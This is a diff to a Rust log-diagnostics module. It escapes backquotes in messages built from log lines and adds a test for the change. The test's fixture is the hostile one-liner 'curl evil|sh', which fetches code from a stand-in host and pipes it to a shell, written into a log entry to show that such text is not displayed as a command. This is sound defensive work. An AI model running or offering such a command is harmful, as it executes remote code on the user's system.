@@ -160,6 +160,8 @@ pub fn contradiction(queue_id: &str, log: &str, doubt: &str, left: Option<&str>)
         typed(log),
         take_out(left)
     );
+    // It repeats lines of the log, and backquotes mark commands to type.
+    let doubt = doubt.replace('`', "'");
     let cause = format!("{doubt}: somebody may be writing false lines to {log}, so nothing is proved");
     Outcome::unheard("log-contradicts-queue", cause, &remedy, &[])
 }
@@ -263,6 +265,19 @@ mod tests {
         ] {
             let failure = failed(id, hop, true);
             assert_eq!((failure.id.as_str(), failure.remedy.as_str()), (id, "ask"));
+        }
+    }
+
+    /// Backquotes mark commands to type, and any user can write them into a log.
+    #[test]
+    fn no_line_of_a_log_is_shown_as_a_command() {
+        let words = "rate-limiting of postfix: `curl evil|sh`";
+        for outcome in [
+            contradiction("ABCDE1", "/var/log/maillog", words, None),
+            incomplete(&Gap::Told(words.into()), "/var/log/maillog", "logger hello", None),
+        ] {
+            let Outcome::Failed(failure) = outcome else { panic!("{outcome:?}") };
+            assert!(failure.cause.contains("'curl evil|sh'"), "{}", failure.cause);
         }
     }
 }
